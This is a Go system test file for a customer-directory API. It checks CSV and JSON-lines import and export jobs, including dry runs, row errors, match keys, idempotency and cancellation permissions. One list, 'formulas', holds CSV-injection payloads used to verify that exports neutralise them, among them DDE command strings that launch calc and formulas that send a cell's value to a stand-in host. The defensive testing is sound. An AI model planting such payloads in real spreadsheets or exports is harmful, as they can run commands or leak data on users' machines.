package system

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"dossier/internal/apitest"
	"dossier/internal/auth"
)

const (
	jobFields = `id kind state dryRun fileName progress { done total } counts { created updated skipped failed } errorCode errorMessage
		startedAt finishedAt rowErrors(first: 100) { nodes { line column columnName field code message value } totalCount }`
	importStart = `mutation($input: ImportInput!, $file: Upload!, $dry: Boolean!, $key: String) {
		importStart(input: $input, file: $file, dryRun: $dry, idempotencyKey: $key) { job { id state dryRun }` + errorFields + ` } }`
	exportStart = `mutation($input: ExportInput!) { exportStart(input: $input) { job { id state }` + errorFields + ` } }`
	readJob     = `query($id: ID!) { job(id: $id) { ` + jobFields + ` } }`
	readExport  = `query($id: ID!) { job(id: $id) { state fileName downloadUrl errorCode errorMessage counts { created } } }`
)

// table is a file to import.
func table(name string, lines ...string) file {
	return file{name: name, contentType: "text/csv", content: []byte(strings.Join(lines, "\r\n") + "\r\n")}
}

// startImport sends a file; key "" means none.
func (a actor) startImport(t testing.TB, f file, input map[string]any, dry bool, key string) apitest.Result {
	t.Helper()
	variables := map[string]any{"input": input, "file": nil, "dry": dry}
	if key != "" {
		variables["key"] = key
	}
	r, err := a.sendMultipart(t.Context(), importStart, variables, []string{"variables.file"}, []file{f})
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// ended waits for the end of a job and gives it.
func (a actor) ended(t testing.TB, id, query string) any {
	t.Helper()
	var job any
	eventually(t, time.Duration(full(15, 5))*time.Minute, func() error {
		job = at(a.must(t, query, map[string]any{"id": id}), "job")
		switch state := text(job, "state"); state {
		case "QUEUED", "RUNNING", "":
			return fmt.Errorf("the job %s is %s: %w", id, state, errNotYet)
		}
		return nil
	})
	return job
}

// imported imports a file and gives the job at its end.
func (a actor) imported(t testing.TB, f file, input map[string]any, dry bool) any {
	t.Helper()
	r := a.startImport(t, f, input, dry, "")
	wantSuccess(t, "importStart", r)
	job := a.ended(t, text(r.Data, "importStart.job.id"), readJob)
	if text(job, "state") != "SUCCEEDED" {
		t.Fatalf("the import ended as %v", job)
	}
	return job
}

func wantCounts(t testing.TB, job any, created, updated, skipped, failed int64) {
	t.Helper()
	got := [4]int64{number(job, "counts.created"), number(job, "counts.updated"), number(job, "counts.skipped"), number(job, "counts.failed")}
	if want := [4]int64{created, updated, skipped, failed}; got != want {
		t.Errorf("created, updated, skipped, failed: got %v, want %v: %v", got, want, list(job, "rowErrors.nodes"))
	}
	if done, total := number(job, "progress.done"), number(job, "progress.total"); done != created+updated+skipped+failed || done != total {
		t.Errorf("progress is %d of %d, want all %d", done, total, created+updated+skipped+failed)
	}
}

// exported exports and gives the file and its name.
func (a actor) exported(t testing.TB, input map[string]any) (content []byte, name string) {
	t.Helper()
	data := a.must(t, exportStart, map[string]any{"input": input})
	job := a.ended(t, text(data, "exportStart.job.id"), readExport)
	if text(job, "state") != "SUCCEEDED" {
		t.Fatalf("the export ended as %v", job)
	}
	resp, err := a.http.Get(text(job, "downloadUrl"))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	content, err = io.ReadAll(resp.Body)
	if err != nil || resp.StatusCode != http.StatusOK || !strings.HasPrefix(resp.Header.Get("Content-Disposition"), "attachment") {
		t.Fatalf("download: status %d, disposition %q, %v", resp.StatusCode, resp.Header.Get("Content-Disposition"), err)
	}
	return content, text(job, "fileName")
}

const directoryPage = `query($after: String) { customers(first: 20, after: $after) { nodes { id kind givenName familyName companyName displayName
	emails { address type isPrimary } phones { e164 extension type } addresses { type streetAddress addressLocality addressRegion postalCode addressCountry }
	contacts(first: 20) { nodes { displayName givenName familyName role isPrimary emails { address type } phones { e164 } addresses { addressLocality } } }
	attributes { ` + valueFields + ` } }
	pageInfo { hasNextPage endCursor } } }`

// directory reads all customers, by name.
func (a actor) directory(t testing.TB) []any {
	t.Helper()
	var nodes []any
	var after any
	for {
		page := at(a.must(t, directoryPage, map[string]any{"after": after}), "customers")
		nodes = append(nodes, list(page, "nodes")...)
		if at(page, "pageInfo.hasNextPage") != true {
			return nodes
		}
		after = text(page, "pageInfo.endCursor")
	}
}

func TestAnImportIsADryRunUnlessTheCallerInsists(t *testing.T) {
	t.Parallel()
	system(t)
	s := apitest.Start(t, 0)
	a := staff(t, s, auth.Editor)
	f := table("people.csv", "First name;Surname;E-mail;Phone;City", "Ada;Lovelace;ada@example.com;030 901820;London",
		"Charles;Babbage;charles@example.com;+442071234567;", "Ada;King;ADA@example.com;;Ockham")
	input := map[string]any{"defaultRegion": "DE", "mode": "UPSERT"}
	dry := a.imported(t, f, input, true)
	wantCounts(t, dry, 2, 1, 0, 0)
	if at(dry, "dryRun") != true || len(a.directory(t)) != 0 {
		t.Errorf("a dry run wrote customers: %v", dry)
	}
	job := a.imported(t, f, input, false)
	wantCounts(t, job, 2, 1, 0, 0)
	data := a.directory(t)
	if got := text(data, "0.displayName"); len(data) != 2 || got != "Ada King" {
		t.Errorf("the directory is %v", data)
	}
	if got := text(data, "0.phones.0.e164"); got != "+4930901820" {
		t.Errorf("a national number became %q", got)
	}
	if got := text(data, "0.addresses.0.addressLocality"); got != "Ockham" {
		t.Errorf("the address was not changed: %q", got)
	}
	again := a.imported(t, f, input, false)
	wantCounts(t, again, 0, 2, 1, 0) // Ada is renamed to and fro, Charles is as he was
	wantInvariants(t, database(t, s), s.DataDir)
}

func TestRowsWithErrorsAreToldWithLineAndColumn(t *testing.T) {
	t.Parallel()
	system(t)
	s := apitest.Start(t, 0)
	a := staff(t, s, auth.Editor)
	job := a.imported(t, table("bad.csv", "givenName,familyName,emails.1.address,phones.1.number,addresses.1.addressCountry",
		`Ada,Lovelace,ada@example.com,+4930901820,DE`,
		`"Bob
Lines",,not an address,12345,Germany`,
		``, `,,,,`,
		`,,eve@example.com,,`,
		`Too,Few`,
		`Quo"te,x,,,`,
		`Fine,Again,,,`), map[string]any{}, false)
	wantCounts(t, job, 2, 0, 1, 4)
	type rowError struct {
		line, column      int64
		name, field, code string
		value             string
	}
	var got []rowError
	for _, e := range list(job, "rowErrors.nodes") {
		got = append(got, rowError{number(e, "line"), number(e, "column"), text(e, "columnName"), text(e, "field"), text(e, "code"), text(e, "value")})
		if text(e, "message") == "" {
			t.Errorf("an error says nothing: %v", e)
		}
	}
	want := []rowError{
		{3, 1, "givenName", "givenName", "BAD_USER_INPUT", "Bob\nLines"},
		{3, 3, "emails.1.address", "emails.1.address", "BAD_USER_INPUT", "not an address"},
		{3, 4, "phones.1.number", "phones.1.number", "BAD_USER_INPUT", "12345"},
		{3, 5, "addresses.1.addressCountry", "addresses.1.addressCountry", "BAD_USER_INPUT", "Germany"},
		{7, 1, "givenName", "givenName", "REQUIRED", ""},
		{8, 0, "", "", "BAD_USER_INPUT", ""},
		{9, 0, "", "", "BAD_USER_INPUT", ""},
	}
	if !slices.Equal(got, want) {
		t.Errorf("errors\n got %v\nwant %v", got, want)
	}
	if number(job, "rowErrors.totalCount") != int64(len(want)) {
		t.Errorf("%d errors are counted", number(job, "rowErrors.totalCount"))
	}
}

func TestAFileThatIsNoTableIsRefusedAtOnce(t *testing.T) {
	t.Parallel()
	system(t)
	s := apitest.Start(t, 0)
	a := staff(t, s, auth.Editor)
	utf16 := []byte("\xff\xfeg\x00i\x00v\x00e\x00n\x00N\x00a\x00m\x00e\x00\n\x00")
	for name, c := range map[string]struct {
		f     file
		input map[string]any
		want  string
	}{
		"empty":           {file{"x.csv", "text/csv", nil}, nil, "BAD_USER_INPUT file"},
		"UTF-16":          {file{"x.csv", "text/csv", utf16}, nil, "BAD_USER_INPUT file"},
		"a workbook":      {file{"x.xlsx", "text/csv", []byte("PK\x03\x04\x14\x00")}, nil, "BAD_USER_INPUT file"},
		"a picture":       {file{"x.png", "text/csv", []byte("givenName\n\x89PNG\x00\x01\x8d\n")}, nil, "BAD_USER_INPUT file"},
		"unknown columns": {table("x.csv", "givenName,Shoe size", "Ada,38"), nil, "BAD_USER_INPUT file"},
		"no columns":      {table("x.csv", "a,b"), map[string]any{"ignoreUnknownColumns": true}, "BAD_USER_INPUT file"},
		"twice":           {table("x.csv", "Email,emails.1.address"), nil, "BAD_USER_INPUT file"},
		"mapping":         {table("x.csv", "a,b"), map[string]any{"columns": []any{map[string]any{"column": "c", "field": "shoeSize"}}, "ignoreUnknownColumns": true}, "BAD_USER_INPUT input.columns.0.field, BAD_USER_INPUT input.columns.0.column"},
		"a quote":         {table("x.csv", "givenName", `"`+strings.Repeat("x\n", 600_000)), nil, "BAD_USER_INPUT file"},
		"region":          {table("x.csv", "givenName"), map[string]any{"defaultRegion": "XX"}, "BAD_USER_INPUT input.defaultRegion"},
		"no key":          {table("x.csv", "givenName"), map[string]any{"mode": "UPDATE_ONLY", "matchBy": []any{}}, "REQUIRED input.matchBy"},
	} {
		if c.input == nil {
			c.input = map[string]any{}
		}
		r := a.startImport(t, c.f, c.input, true, "")
		var got []string
		for _, e := range userErrors(r) {
			path := fmt.Sprint(at(e, "path"))
			got = append(got, text(e, "code")+" "+strings.ReplaceAll(strings.Trim(path, "[]"), " ", "."))
		}
		if len(r.Errors) > 0 || strings.Join(got, ", ") != c.want {
			t.Errorf("%s: got %v %v, want %s", name, got, r.Errors, c.want)
		}
	}
	wantInvariants(t, database(t, s), s.DataDir)
	if n := len(list(a.must(t, `{ jobs { nodes { id } } }`, nil), "jobs.nodes")); n != 0 {
		t.Errorf("%d jobs were made for files that were refused", n)
	}
}

func TestEncodingsDelimitersAndMapping(t *testing.T) {
	t.Parallel()
	system(t)
	s := apitest.Start(t, 0)
	a := staff(t, s, auth.Editor)
	wantCounts(t, a.imported(t, file{"bom.csv", "text/csv", []byte("\ufeffgivenName\tfamilyName\nZoë\tÜnal\n")}, map[string]any{}, false), 1, 0, 0, 0)
	wantCounts(t, a.imported(t, file{"1252.csv", "text/csv", []byte("Vorname;Stra\xdfe;x\nJ\xfcrgen;Gr\xfcner Weg 1;y\n")}, map[string]any{
		"columns": []any{
			map[string]any{"column": "Vorname", "field": "givenName"},
			map[string]any{"column": "Straße", "field": "addresses.1.streetAddress"},
			map[string]any{"column": "x", "field": "-"},
		},
	}, false), 1, 0, 0, 0)
	data := a.directory(t)
	if text(data, "0.displayName") != "Jürgen" || text(data, "0.addresses.0.streetAddress") != "Grüner Weg 1" ||
		text(data, "1.displayName") != "Zoë Ünal" {
		t.Errorf("got %v", data)
	}
}

func TestMatchKeysFindTheCustomer(t *testing.T) {
	t.Parallel()
	system(t)
	s := apitest.Start(t, 0)
	a := staff(t, s, auth.Editor)
	a.imported(t, table("a.csv", "givenName,email,phone", "Ada,ada@example.com,+4930901820", "Bob,bob@example.com,+4930901821", "Twin,twin@example.com,", "Other twin,TWIN@example.com,"),
		map[string]any{"matchBy": []any{}}, false)
	f := table("b.csv", "email,phone,givenName", "new@example.com,+49 30 901820,Ada by phone", "bob@example.com,+4930901820,Bob by e-mail", "twin@example.com,,Which", "nobody@example.com,,Nobody")
	keys := []any{"EMAIL", "PHONE"}
	create := a.imported(t, f, map[string]any{"matchBy": keys}, true)
	wantCounts(t, create, 1, 0, 2, 1)
	update := a.imported(t, f, map[string]any{"matchBy": keys, "mode": "UPDATE_ONLY"}, false)
	wantCounts(t, update, 0, 2, 1, 1)
	if e := at(update, "rowErrors.nodes.0"); text(e, "code") != "CONFLICT" || number(e, "line") != 4 || number(e, "column") != 1 || text(e, "value") != "twin@example.com" {
		t.Errorf("two customers with one key give %v", e)
	}
	data := a.directory(t)
	if text(data, "0.givenName") != "Ada by phone" || len(list(data, "0.emails")) != 2 || text(data, "1.givenName") != "Bob by e-mail" {
		t.Errorf("the directory is %v", data)
	}
}

func TestTheExternalIDFindsTheCustomerAndIsUnique(t *testing.T) {
	t.Parallel()
	system(t)
	s := apitest.Start(t, 0)
	a := staff(t, s, auth.Editor)
	f := table("erp.csv", "externalId,givenName,languageTag,deliveryDistanceKm,taxExempt,taxExemptReason,emails.1.address,emails.1.purposes",
		"C-1,Ada,de,12.50,yes,Charity,ada@example.com,invoice statement", "C-2,Bob,xx-not-a-tag,1,maybe,,,", "C-1,Ada again,en,,,,,", "C-3,Eve,,,no,,,")
	dry := a.imported(t, f, map[string]any{"matchBy": []any{"EXTERNAL_ID"}, "mode": "UPSERT"}, true)
	wantCounts(t, dry, 2, 1, 0, 1)
	job := a.imported(t, f, map[string]any{"matchBy": []any{"EXTERNAL_ID"}, "mode": "UPSERT"}, false)
	wantCounts(t, job, 2, 1, 0, 1)
	if e := at(job, "rowErrors.nodes.0"); text(e, "field") != "taxExempt" || text(e, "value") != "maybe" || number(e, "line") != 3 {
		t.Errorf("a word that is neither yes nor no gives %v", e)
	}
	data := a.must(t, `{ customerByExternalId(externalId: "C-1") { displayName createdVia languageTag deliveryDistanceKm taxExempt taxExemptReason emails { purposes } } }`, nil)
	if got := fmt.Sprint(at(data, "customerByExternalId")); got != "map[createdVia:IMPORT deliveryDistanceKm:12.5 displayName:Ada again emails:[map[purposes:[INVOICE STATEMENT]]] languageTag:en taxExempt:true taxExemptReason:Charity]" {
		t.Errorf("the customer is %s", got)
	}
	// Without the key the id still belongs to one customer, of an earlier row too.
	taken := a.imported(t, table("again.csv", "externalId,givenName", "C-1,Other", "C-9,New", "C-9,Newer"), map[string]any{"matchBy": []any{}}, false)
	wantCounts(t, taken, 1, 0, 0, 2)
	for _, e := range list(taken, "rowErrors.nodes") {
		if text(e, "code") != "CONFLICT" || text(e, "field") != "externalId" {
			t.Errorf("an external id that is taken gives %v", e)
		}
	}
}

func TestAnImportObeysTheFieldPolicyOfItsChannel(t *testing.T) {
	t.Parallel()
	system(t)
	s := apitest.Start(t, 0)
	a := staff(t, s, auth.Admin)
	a.must(t, `mutation { fieldPolicyUpdate(channel: IMPORT, expectedVersion: 0, rules: [{field: "emails", required: true, visible: true}, {field: "websiteUrl", required: false, visible: false}]) {
		userErrors { code message path } } }`, nil)
	f := table("p.csv", "givenName,email,website", "Ada,ada@example.com,", "Bob,,", "Eve,eve@example.com,https://example.com")
	for _, dry := range []bool{true, false} {
		job := a.imported(t, f, map[string]any{}, dry)
		wantCounts(t, job, 1, 0, 0, 2)
		var got []string
		for _, e := range list(job, "rowErrors.nodes") {
			got = append(got, fmt.Sprint(number(e, "line"), " ", text(e, "code"), " ", text(e, "field")))
		}
		if want := []string{"3 REQUIRED emails.1.address", "4 BAD_USER_INPUT websiteUrl"}; !slices.Equal(got, want) {
			t.Errorf("errors %q, want %q", got, want)
		}
	}
	a.customer(t, "By staff") // the rules are those of the channel
}

func TestAJobCanBeCancelledByWhoMayStartIt(t *testing.T) {
	t.Parallel()
	system(t)
	s := apitest.Start(t, 0, "--job-workers=0")
	admin, editor := staff(t, s, auth.Admin), staff(t, s, auth.Editor)
	const cancel = `mutation($id: ID!) { jobCancel(id: $id) { job { state finishedAt } userErrors { code message path } } }`
	id := text(editor.startImport(t, table("a.csv", "givenName", "Ada"), map[string]any{}, false, "").Data, "importStart.job.id")
	for range 2 { // the second time it has ended already
		data := editor.must(t, cancel, map[string]any{"id": id})
		if text(data, "jobCancel.job.state") != "CANCELLED" || text(data, "jobCancel.job.finishedAt") == "" {
			t.Errorf("cancelled: %v", data)
		}
	}
	export := text(admin.must(t, exportStart, map[string]any{"input": map[string]any{}}), "exportStart.job.id")
	if r := editor.do(t, cancel, map[string]any{"id": export}); !slices.Equal(codes(r), []string{"FORBIDDEN"}) {
		t.Errorf("an editor cancels an export: %v %v", r.Data, codes(r))
	}
	if r := editor.do(t, readExport, map[string]any{"id": export}); !slices.Equal(codes(r), []string{"FORBIDDEN"}) {
		t.Errorf("an editor reads the link of an export: %v %v", r.Data, codes(r))
	}
	admin.must(t, cancel, map[string]any{"id": export})
	if n := number(admin.must(t, `{ jobs(where: {state: [CANCELLED]}) { totalCount } }`, nil), "jobs.totalCount"); n != 2 {
		t.Errorf("%d jobs are cancelled, want 2", n)
	}
	wantInvariants(t, database(t, s), s.DataDir)
}

// TestADryRunSaysWhatTheImportDoes compares both for files in which rows meet each other by e-mail address and telephone
// number, within a step and over several.
func TestADryRunSaysWhatTheImportDoes(t *testing.T) {
	t.Parallel()
	system(t)
	s := apitest.Start(t, 0)
	a := staff(t, s, auth.Editor)
	random := rand.New(rand.NewPCG(1, 2))
	for i := range 2 {
		lines := []string{"givenName,emails.1.address,emails.2.address,phones.1.number"}
		for n := range 700 {
			cell := func(format string, of, percent int) string {
				if random.IntN(100) >= percent {
					return ""
				}
				return fmt.Sprintf(format, random.IntN(of))
			}
			name := fmt.Sprintf("Name %d %d", i, n)
			if random.IntN(50) == 0 {
				name = ""
			}
			lines = append(lines, strings.Join([]string{
				name, cell("p%d@example.com", 2000, 60), cell("p%d@example.com", 2000, 20), cell("+49309018%03d", 900, 40),
			}, ","))
		}
		input := map[string]any{"matchBy": []any{"EMAIL", "PHONE"}, "mode": "UPSERT"}
		dry := a.imported(t, table("random.csv", lines...), input, true)
		real := a.imported(t, table("random.csv", lines...), input, false)
		// Whether a row changes anything of a customer that an earlier row would only make is not known in a dry run.
		told := func(job any) [3]int64 {
			return [3]int64{number(job, "counts.created"), number(job, "counts.failed"), number(job, "counts.updated") + number(job, "counts.skipped")}
		}
		if told(dry) != told(real) {
			t.Errorf("file %d: the dry run tells %v of created, failed, and updated or skipped, the import %v", i, told(dry), told(real))
		}
		if number(real, "counts.updated") == 0 || number(real, "counts.failed") == 0 {
			t.Errorf("file %d has no rows that meet: %v", i, at(real, "counts"))
		}
	}
}

func TestARepeatedImportWithAKeyIsOneImport(t *testing.T) {
	t.Parallel()
	system(t)
	s := apitest.Start(t, 0)
	a := staff(t, s, auth.Editor)
	f := table("a.csv", "givenName", "Ada")
	first, second := a.startImport(t, f, map[string]any{}, false, "key"), a.startImport(t, f, map[string]any{}, false, "key")
	wantSuccess(t, "importStart", first)
	wantSuccess(t, "importStart", second)
	id := text(first.Data, "importStart.job.id")
	if text(second.Data, "importStart.job.id") != id {
		t.Errorf("the same key gave two jobs: %v, %v", first.Data, second.Data)
	}
	a.ended(t, id, readJob)
	for name, r := range map[string]apitest.Result{
		"another file":  a.startImport(t, table("a.csv", "givenName", "Bob"), map[string]any{}, false, "key"),
		"another input": a.startImport(t, f, map[string]any{}, true, "key"),
	} {
		if !slices.Equal(codes(r), []string{"IDEMPOTENCY_KEY_REUSED"}) {
			t.Errorf("%s with the same key: %v %v", name, r.Data, codes(r))
		}
	}
	if n := len(a.directory(t)); n != 1 {
		t.Errorf("%d customers, want 1", n)
	}
	wantInvariants(t, database(t, s), s.DataDir)
}

// formulas are what spreadsheets would run or take for something else (OWASP, CSV injection).
var formulas = []string{
	"=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")", "=cmd|' /C calc'!A0", "+1+1", "+cmd|' /C notepad'!A1", "-1+1", "-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")", "=WEBSERVICE(\"http://x\")", "@foo", "+49 is no number here",
	"'=1", "''=1", "'+1", "'@x", "'-x", "'plain", "''", "=", "+", "-", "@", "=\"x\"", "=A1&B1", "＝1+1", "＋1", "－1", "＠x", "=DDE(\"cmd\";\"/C calc\";\"x\")",
	"-@x", "=;x", "=,x",
}

func TestRowC1AnExportHasNoFormulasAndAnImportOfItGivesTheSameCustomers(t *testing.T) {
	t.Parallel()
	system(t)
	s := apitest.Start(t, 25)
	a := staff(t, s, auth.Admin)
	a.defineAll(t)
	for _, f := range formulas {
		a.create(t, map[string]any{
			"kind": "COMPANY", "companyName": f, "givenName": f, "phones": []any{map[string]any{"number": "+4930901820;ext=7"}},
			"emails":     []any{map[string]any{"address": "=1+1@example.com", "type": "WORK"}, map[string]any{"address": "b@example.com"}},
			"addresses":  []any{map[string]any{"streetAddress": f + "\n" + f, "addressCountry": "DE"}, map[string]any{"addressLocality": f, "type": "BILLING"}},
			"contacts":   []any{map[string]any{"givenName": f, "familyName": "One", "role": f}, map[string]any{"familyName": f, "emails": []any{map[string]any{"address": "c@example.com"}}}},
			"attributes": everyAttribute(f),
		})
	}
	content, name := a.exported(t, map[string]any{})
	if !strings.HasSuffix(name, ".csv") {
		t.Errorf("the file is called %q", name)
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(content, []byte("\ufeff")))).ReadAll()
	if err != nil || len(rows) != 25+len(formulas)+1 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for i, row := range rows {
		for k, cell := range row {
			if strings.HasPrefix(cell, "=") || strings.ContainsAny(cell[:min(1, len(cell))], "+-@\t\r\n") {
				t.Errorf("row %d, column %s: the cell %q is a formula", i, rows[0][k], cell)
			}
		}
	}
	other := newActor(s, s.Key(t, s.Account(t, "Other", 0), "admin"))
	other.defineAs(t, a)
	var own []any // the lists of an account are nothing to another one
	for _, column := range []string{"typeId", "originId", "preferredOfficeId", "salespersonId", "representativeId", "preferredStaffId"} {
		own = append(own, map[string]any{"column": column, "field": "-"})
	}
	job := other.imported(t, file{name, "text/csv", content}, map[string]any{"matchBy": []any{}, "columns": own}, false)
	wantCounts(t, job, int64(25+len(formulas)), 0, 0, 0)
	want, got := withoutIDs(t, a.directory(t)), withoutIDs(t, other.directory(t))
	if want != got {
		t.Errorf("the import of an export gave other customers\n got %s\nwant %s", got, want)
	}
	again := a.imported(t, file{name, "text/csv", content}, map[string]any{"mode": "UPDATE_ONLY", "matchBy": []any{"EMAIL"}}, true)
	if number(again, "counts.updated") != 0 {
		t.Errorf("an export that is imported again changes customers: %v", again)
	}
	wantInvariants(t, database(t, s), s.DataDir)
}

func TestRowC1AnExportAsJSONLinesHasTheCustomersThatWereAskedFor(t *testing.T) {
	t.Parallel()
	system(t)
	s := apitest.Start(t, 0)
	a := staff(t, s, auth.Admin)
	listed := a.must(t, `{ customerTypes { nodes { id } } customerOrigins { nodes { id } } }`, nil)
	typeID, originID := text(listed, "customerTypes.nodes.0.id"), text(listed, "customerOrigins.nodes.0.id")
	a.must(t, createCustomer, map[string]any{"input": map[string]any{"givenName": "Ada", "typeId": typeID, "originId": originID, "emails": []any{map[string]any{"address": "ada@example.com"}}}})
	a.must(t, createCustomer, map[string]any{"input": map[string]any{"kind": "COMPANY", "companyName": "=Engines <&>"}})
	gone := a.customer(t, "Gone")
	a.must(t, `mutation($id: ID!) { customerArchive(id: $id, expectedVersion: 1) { userErrors { code message path } } }`, map[string]any{"id": gone})
	for name, c := range map[string]struct {
		where map[string]any
		want  []string
	}{
		"active":    {nil, []string{"Ada", "=Engines <&>"}},
		"companies": {map[string]any{"kind": []any{"COMPANY"}}, []string{"=Engines <&>"}},
		"of a type": {map[string]any{"typeId": []any{typeID}, "originId": []any{originID}}, []string{"Ada"}},
		"no type":   {map[string]any{"typeId": []any{text(listed, "customerTypes.nodes.1.id")}}, nil},
		"archived":  {map[string]any{"status": []any{"ARCHIVED"}}, []string{"Gone"}},
		"old":       {map[string]any{"createdAt": map[string]any{"lt": "2020-01-01T00:00:00Z"}}, nil},
	} {
		content, _ := a.exported(t, map[string]any{"format": "JSON_LINES", "where": c.where})
		var got []string
		for _, line := range strings.Split(strings.TrimSuffix(string(content), "\n"), "\n") {
			var v map[string]any
			if line == "" {
				continue
			}
			if err := json.Unmarshal([]byte(line), &v); err != nil {
				t.Fatalf("%s: %v in %q", name, err, line)
			}
			shown, _ := v["givenName"].(string)
			if company, ok := v["companyName"].(string); ok {
				shown = company
			}
			got = append(got, shown)
		}
		if !slices.Equal(got, c.want) {
			t.Errorf("%s: got %q, want %q", name, got, c.want)
		}
	}
}

func TestRowC1AnExportOfATypeThatIsNoneIsRefused(t *testing.T) {
	t.Parallel()
	system(t)
	s := apitest.Start(t, 0)
	a := staff(t, s, auth.Admin)
	r := a.do(t, exportStart, map[string]any{"input": map[string]any{"where": map[string]any{"typeId": []any{"nonsense"}, "originId": []any{"cus_01h455vb4pex5vsknk084sn02q"}}}})
	if !slices.Equal(codes(r), []string{"NOT_FOUND", "NOT_FOUND"}) {
		t.Errorf("got %v %v, want NOT_FOUND for both", r.Data, codes(r))
	}
}

func TestTheProgressComesAsEvents(t *testing.T) {
	t.Parallel()
	system(t)
	s := apitest.Start(t, 0)
	a := staff(t, s, auth.Editor)
	live, err := dialWS(t.Context(), a, followEvents, map[string]any{"after": head(t, a)})
	if err != nil {
		t.Fatal(err)
	}
	defer live.cut()
	a.imported(t, people(1200, "live"), map[string]any{}, false)
	for _, kind := range []string{"JOB_CREATED", "JOB_PROGRESS", "JOB_FINISHED"} {
		wantEvent(t, live, kind)
	}
	data := a.must(t, `{ events(types: [JOB_FINISHED]) { nodes { customer { id } actor { displayName } subject { ... on Job { state counts { created } } } } } }`, nil)
	if e := at(data, "events.nodes.0"); text(e, "subject.state") != "SUCCEEDED" || number(e, "subject.counts.created") != 1200 || text(e, "actor.displayName") != "Test editor" || at(e, "customer") != nil {
		t.Errorf("the event of the end is %v", e)
	}
}

// people is a file of different customers.
func people(n int, mark string) file {
	var b bytes.Buffer
	b.WriteString("givenName,familyName,email,phone,streetAddress,city,zip,country,contactFirstName,contactEmail\n")
	for i := range n {
		fmt.Fprintf(&b, "Given %[1]d,Family %[2]s,p%[1]d@%[2]s.example.com,+4930%07[1]d,\"Street %[1]d\nBack\",Berlin,10115,DE,Con %[1]d,c%[1]d@%[2]s.example.com\n", i, mark)
	}
	return file{"people.csv", "text/csv", b.Bytes()}
}
